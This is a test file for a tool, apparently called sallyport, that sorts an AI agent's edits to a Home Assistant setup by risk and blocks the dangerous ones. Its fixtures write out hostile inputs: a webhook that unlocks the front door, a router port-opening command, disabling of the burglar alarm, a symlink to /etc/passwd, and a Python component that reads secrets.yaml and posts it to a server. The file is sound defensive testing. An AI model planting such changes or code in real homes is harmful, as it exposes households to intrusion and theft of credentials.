/* A house whose automations an agent writes: what is harmless happens, what opens a door is asked about, the rest is a person's. */
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { dirname, join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { startWeb } from './network.test-support.ts';
import { type Ended, makeWorkspace, type Place, runScript, sallyport } from './sallyport.test-support.ts';

const FILES: Readonly<Record<string, string>> = {
  'configuration.yaml': 'homeassistant:\n  name: House\nfrontend:\nautomation: !include automations.yaml\n',
  'automations.yaml':
    '- alias: Evening\n  trigger:\n    - platform: time\n      at: "18:00:00"\n  action:\n    - service: light.turn_on\n      target: { entity_id: light.hall }\n' +
    '- alias: Burglar alarm\n  trigger:\n    - platform: state\n      entity_id: binary_sensor.window\n      to: "on"\n  action:\n    - service: notify.notify\n      data: { message: window }\n',
  'secrets.yaml': 'hook: made-up-in-a-test-0123456789\n',
};

function house(): Place {
  const place = makeWorkspace();
  put(place, FILES);
  return place;
}

function put(place: Place, files: Readonly<Record<string, string>>): void {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(place.workspace, path)), { recursive: true });
    writeFileSync(join(place.workspace, path), text);
  }
}

async function agentDoes(place: Place, script: string): Promise<Ended> {
  const ended = await runScript(place, script, ['-q', '--transaction']);
  expect(ended, ended.stderr).toMatchObject({ code: 0 });
  return sallyport(place, ['home', 'apply', 'last', '--json']);
}

const read = (place: Place, path: string): string => readFileSync(join(place.workspace, path), 'utf8');
const HOOK =
  "printf -- '- alias: Guest\\n  trigger:\\n    - platform: webhook\\n      webhook_id: !secret hook\\n  action:\\n    - service: lock.unlock\\n      target: { entity_id: lock.front_door }\\n' >> automations.yaml";
// sallyport-ignore home-token -- made up: it opens nothing
const TOKEN = [
  'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9',
  'eyJpc3MiOiIwMTIzNDU2Nzg5YWJjZGVmMDEyMzQ1Njc4OWFiY2RlZiIsImlhdCI6MTcwMDAwMDAwMH0',
  'c2lnbmF0dXJlLW9mLW5vYm9keS1hdC1hbGw',
].join('.');

test('the time of a light is changed without a question, and undo brings it back', async () => {
  const place = house();
  const applied = await agentDoes(place, "sed -i 's/18:00/19:30/' automations.yaml");
  expect(JSON.parse(applied.stdout)).toMatchObject({ verdict: 'applied', tier: 'low', committed: 1 });
  expect(read(place, 'automations.yaml')).toContain('19:30');
  expect((await sallyport(place, ['undo', 'last'])).code).toBe(0);
  for (const [path, text] of Object.entries(FILES)) expect(read(place, path)).toBe(text);
});

test('a webhook that unlocks a door is asked about, in a sentence, and without a person it does not happen', async () => {
  const place = house();
  const applied = await agentDoes(place, HOOK);
  const { verdict, tier, sentences } = JSON.parse(applied.stdout);
  expect([applied.code, verdict, tier]).toEqual([1, 'refused', 'high']);
  expect(sentences.map(({ text }: { text: string }) => text)).toContain(
    'front door lock: can now be unlocked by a webhook without a second condition',
  );
  expect(read(place, 'automations.yaml')).toBe(FILES['automations.yaml']);
  const { stdout } = await sallyport(place, ['home', 'diff', '--run', 'last']);
  expect(stdout).toContain('front door lock: can now be unlocked by a webhook without a second condition (automations.yaml:');
});

describe('what is left to a person', () => {
  test.each([
    [
      'MQTT for everyone on all interfaces',
      "printf 'listener 1883\\nallow_anonymous true\\n' > mosquitto.conf",
      /port 1883 .*becomes reachable from the house without TLS and without a login/,
    ],
    [
      'the router is opened',
      "printf 'shell_command:\\n  open: upnpc -a 192.0.2.5 8123 8123 TCP\\n' >> configuration.yaml",
      /port 8123 .*becomes reachable from the internet without TLS/,
    ],
    [
      'a token in the configuration',
      `printf 'rest_command:\\n  a:\\n    url: http://127.0.0.1/\\n    headers: { authorization: Bearer ${TOKEN} }\\n' >> configuration.yaml`,
      /user of the house for ten years/,
    ],
    [
      'the alarm is switched off',
      "sed -i 's/^- alias: Burglar alarm/&\\n  initial_state: false/' automations.yaml",
      /"Burglar alarm", which watches over the house, is switched off/,
    ],
    [
      'a component that reads secrets',
      'mkdir -p custom_components/meter; printf \'import json\\ndata = open("/config/secrets.yaml").read()\\n\' > custom_components/meter/__init__.py',
      /reads what opens the whole house/,
    ],
  ])('%s', async (_name, script, want) => {
    const place = house();
    const applied = await agentDoes(place, script);
    const { verdict, tier, sentences } = JSON.parse(applied.stdout);
    expect([applied.code, verdict, tier]).toEqual([1, 'by-hand', 'critical']);
    expect(sentences.map(({ text }: { text: string }) => text).join('\n')).toMatch(want);
    expect(sentences.some(({ instead }: { instead?: string }) => instead !== undefined) || script.includes('mosquitto')).toBe(
      true,
    );
    expect(applied.stdout).not.toContain(TOKEN);
    for (const [path, text] of Object.entries(FILES)) expect(read(place, path)).toBe(text);
    expect(existsSync(join(place.workspace, 'custom_components'))).toBe(false);
  });
});

test('states of a repository are compared, and a scan finds the same', async () => {
  const place = house();
  put(place, { '.gitignore': 'secrets.yaml\n' });
  const git = 'git -c user.name=a -c user.email=a@example.org';
  const { spawnSync } = await import('node:child_process');
  const done = spawnSync('sh', ['-c', `git init -q . && git add -A && ${git} commit -qm a`], {
    cwd: place.workspace,
    env: { ...place.env },
  });
  expect(done.status).toBe(0);
  put(place, { 'configuration.yaml': `${FILES['configuration.yaml']}http:\n  cors_allowed_origins: ["*"]\n` });
  const diff = await sallyport(place, ['home', 'diff']);
  expect(diff.stdout).toContain('Every page of the web may call the API of this house');
  const scan = await sallyport(place, ['scan', '--format', 'json']);
  expect(JSON.parse(scan.stdout).findings.map(({ rule }: { rule: string }) => rule)).toContain('home-cors');
  const ports = await sallyport(place, ['home', 'exposure', '--json']);
  expect(JSON.parse(ports.stdout).ports).toMatchObject([{ port: 8123, from: 'the house', login: 'some', tls: false }]);
});

test('the doors of a house are listed, with who needs no password and what obeys a voice', async () => {
  const place = house();
  put(place, {
    'configuration.yaml':
      'homeassistant:\n  auth_providers:\n    - type: trusted_networks\n      trusted_networks: [192.168.1.0/24]\nautomation: !include automations.yaml\n',
    '.storage/http': '{"data": {"server_port": 8124, "server_host": ["127.0.0.1"], "ssl_certificate": null}}',
    '.storage/core.config': '{"data": {"external_url": "https://house.example.org"}}',
    '.storage/core.entity_registry':
      '{"data": {"entities": [{"entity_id": "lock.front", "options": {"conversation": {"should_expose": true}}}]}}',
  });
  const { ports, voices } = JSON.parse((await sallyport(place, ['home', 'exposure', '--json'])).stdout);
  expect(ports).toMatchObject([
    { port: 8124, from: 'the internet', tls: true, through: 'the external address', path: '.storage/core.config' },
    { port: 8124, from: 'this machine', login: 'some', free: ['192.168.1.0/24'], tls: false },
  ]);
  expect(voices).toMatchObject([{ entity: 'lock.front', assistants: ['conversation'] }]);
  const { stdout } = await sallyport(place, ['home', 'exposure']);
  expect(stdout).toMatch(/8124 {2}Home Assistant: from this machine, a login \(none for 192\.168\.1\.0\/24\), no TLS/);
  expect(stdout).toContain('voice  lock.front: obeys conversation');
});

test('links out of the folder, and files that are too long, are told of and not read', async () => {
  const place = house();
  symlinkSync('/etc/passwd', join(place.workspace, 'outside.yaml'));
  put(place, {
    'configuration.yaml': `${FILES['configuration.yaml']}script: !include outside.yaml\n`,
    'long.yaml': `a: ${'x'.repeat(50 << 20)}\n`,
  });
  const { stdout } = await sallyport(place, ['home', 'scan', '--json']);
  const { findings } = JSON.parse(stdout);
  expect(findings.map(({ rule }: { rule: string }) => rule)).toContain('home-include-outside');
  expect(stdout).not.toContain('root:');
});

const HASS = process.env['SALLYPORT_TEST_HASS'];

describe.skipIf(HASS === undefined)('a real Home Assistant (SALLYPORT_TEST_HASS names its program)', () => {
  const tried = (place: Place): Promise<Ended> =>
    sallyport(place, ['home', 'test', '--json', '--hass', HASS ?? ''], { timeout: 180_000 });

  test('a good configuration comes up', { timeout: 200_000 }, async () => {
    const ended = await tried(house());
    expect(JSON.parse(ended.stdout)).toMatchObject({ outcome: 'up' });
    expect(ended.code).toBe(0);
  });

  test('a broken one is refused in its own words', { timeout: 200_000 }, async () => {
    const place = house();
    put(place, { 'automations.yaml': '- alias: Broken\n  trigger:\n    - platform: time\n      at: "99:00"\n  action: []\n' });
    const { outcome, complaints } = JSON.parse((await tried(place)).stdout);
    expect(outcome).toBe('broken');
    expect(complaints.join('\n')).toMatch(/Broken.*Expected HH:MM/);
  });

  test('a malicious component gets nothing', { timeout: 200_000 }, async () => {
    const place = house();
    const web = await startWeb();
    put(place, {
      'configuration.yaml': `${FILES['configuration.yaml']}meter:\n`,
      'custom_components/meter/manifest.json':
        '{ "domain": "meter", "name": "Meter", "version": "1.0.0", "documentation": "", "codeowners": [], "requirements": [], "iot_class": "local_polling" }\n',
      'custom_components/meter/__init__.py': `import urllib.request\nSEEN = open(__file__.rsplit("/custom_components", 1)[0] + "/secrets.yaml").read()\nasync def async_setup(hass, config):\n    def send():\n        urllib.request.urlopen("http://127.0.0.1:${web.port}/", data=SEEN.encode(), timeout=3)\n    try:\n        await hass.async_add_executor_job(send)\n    except OSError:\n        pass\n    return True\n`,
    });
    const ended = await tried(place);
    expect(web.seen).toEqual([]);
    expect(ended.stdout).not.toContain('made-up-in-a-test');
    expect(JSON.parse(ended.stdout).outcome).toBe('up');
  });
});

test('without a Home Assistant that is said, with its own exit code', async () => {
  const ended = await sallyport(house(), ['home', 'test', '--json']);
  expect([ended.code, JSON.parse(ended.stdout).outcome]).toEqual([3, 'not-tried']);
});

test('a house gets a policy under which its secrets are out of reach, and which is not written twice', async () => {
  const place = house();
  expect((await sallyport(place, ['init', 'home', '--yes'])).code).toBe(0);
  const checked = await sallyport(place, ['policy', 'check']);
  expect([checked.code, checked.stderr]).toEqual([0, '']);
  expect((await sallyport(place, ['policy', 'test'])).code).toBe(0);
  const ended = await runScript(place, 'cat secrets.yaml; upnpc -a 192.0.2.5 8123 8123 TCP', ['-q']);
  expect(ended.code).not.toBe(0);
  expect(ended.stdout).not.toContain('made-up-in-a-test');
  const asked = await sallyport(place, ['policy', 'explain', '--json', '--', 'hass-cli', 'service', 'call', 'lock.unlock']);
  expect(JSON.parse(asked.stdout).verdict).toBe('ask');
  put(place, { 'sallyport.yaml': 'version: 1\n' });
  expect((await sallyport(place, ['init', 'home', '--yes'])).code).toBe(2);
});

test.each([
  ['valid', 'applied', '19:30'],
  ['invalid', 'rolled-back', '18:00'],
])('a running house that finds the change %s: %s', async (result, verdict, time) => {
  const place = house();
  const asked: string[] = [];
  const token = 'made-up-token-of-a-test-0123456789';
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url} ${request.headers.authorization === `Bearer ${token}`}`);
    response.setHeader('content-type', 'application/json');
    response.end(JSON.stringify(request.url === '/api/config' ? { state: 'RUNNING' } : { result, errors: 'no' }));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void server.close());
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  const added = await sallyport(place, ['secret', 'add', 'hass', '--host', `127.0.0.1:${port}`, '--env', 'HASS_TOKEN'], {
    input: token,
  });
  expect(added, added.stderr).toMatchObject({ code: 0 });
  await runScript(place, "sed -i 's/18:00/19:30/' automations.yaml", ['-q', '--transaction']);
  const applied = await sallyport(place, [
    'home',
    'apply',
    'last',
    '--json',
    '--instance',
    `http://127.0.0.1:${port}`,
    '--token',
    'hass',
  ]);
  expect(JSON.parse(applied.stdout), applied.stderr).toMatchObject({ verdict });
  expect(read(place, 'automations.yaml')).toContain(time);
  expect(asked[0]).toBe('POST /api/config/core/check_config true');
  expect(applied.stdout + applied.stderr).not.toContain(token);
});
